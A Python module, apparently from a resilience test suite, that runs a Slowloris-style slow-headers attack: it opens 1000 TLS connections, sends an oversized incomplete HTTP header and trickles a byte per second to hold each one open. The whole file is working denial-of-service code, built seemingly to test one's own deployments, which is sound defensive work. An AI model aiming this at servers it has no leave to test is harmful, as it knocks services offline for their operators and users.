"""Headers over HTTP/1 that fill every buffer they may have and never end.

What slowhttptest calls slow headers (Slowloris), with the most that a head may
hold: a byte more every second keeps each of them alive.
"""

import asyncio

from attack import Attack, still_open

ATTACK = Attack(configurations=("deployments", "static"), short=("10Mi", "32Mi"))
CONNECTIONS = 1000


async def run(target):
    # Three fields and a part of a fourth: large_client_header_buffers 4 8k.
    head = b"GET / HTTP/1.1\r\nHost: localhost\r\n" + b"".join(
        b"X-%d: %s\r\n" % (number, b"x" * 7900) for number in range(3)) + b"X-Last: " + b"x" * 6000

    opened = await target.many(CONNECTIONS, lambda _: target.tls())
    await target.one_after_another(opened, head, 0.005)
    while target.left() > 1:
        for _, writer in opened:
            if not writer.is_closing():
                writer.write(b"x")
        await asyncio.sleep(1)
    return f"{len(opened)} connections with 30 KB of a head, {still_open(opened)} stayed"
